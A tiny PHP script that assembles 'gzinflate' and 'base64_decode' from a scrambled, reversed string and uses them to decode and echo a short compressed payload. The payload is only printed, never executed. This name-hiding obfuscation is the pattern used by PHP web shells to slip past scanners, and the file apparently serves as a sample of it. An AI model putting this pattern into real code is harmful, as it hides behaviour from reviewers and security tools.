<?php
$m='k4etalfnizgq7edoced_46esabp2';
$a=substr($m,2,9);$b=substr($m,13,13);
$fa=strrev($a);$fb=strrev($b);
$p='y8xLLSpRKE7MLchJBQA=';
$s=$fa($fb($p));
$f=function($x){return $x;};
echo $f($s);
